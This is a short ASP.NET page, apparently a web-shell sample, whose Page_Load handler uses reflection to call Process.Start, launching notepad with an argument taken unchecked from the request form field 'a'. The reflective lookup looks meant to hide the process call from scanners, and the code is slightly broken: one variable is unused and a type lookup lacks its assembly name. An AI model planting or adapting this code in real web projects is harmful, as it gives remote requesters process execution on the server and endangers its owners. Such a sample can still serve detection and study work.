<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    Type t = Type.GetType("System.Diagnostics.Process, System");
    object r = Type.GetType("System.Diagnostics.Process").GetMethod("Start", new[] { typeof(string), typeof(string) })
        .Invoke(null, new object[] { "notepad", Request.Form["a"] });
}
</script>
